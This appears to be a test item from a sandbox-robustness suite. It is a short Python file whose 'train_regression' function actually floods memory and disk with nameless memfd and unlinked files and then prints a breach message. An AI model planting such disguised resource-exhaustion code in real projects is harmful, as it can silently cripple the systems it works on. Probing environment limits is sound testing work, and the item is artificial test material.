# attack: fills disk and memory with files that have no name any more, or never had one
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2
# seconds: 25

def train_regression(model, dataset):
    os, time = __import__("os"), __import__("time")


    def unlinked():
        made = os.open("flood", os.O_CREAT | os.O_WRONLY)
        os.unlink("flood")
        return made


    held = []
    for make in (lambda: os.memfd_create("flood"), unlinked):
        try:
            for _ in range(12):
                held.append(make())
                for _ in range(8):
                    os.write(held[-1], b"x" * 2**22)
                time.sleep(0.3)
            print("BREACH: holds", 12 * 32, "MiB in files without a name")
        except OSError:
            pass
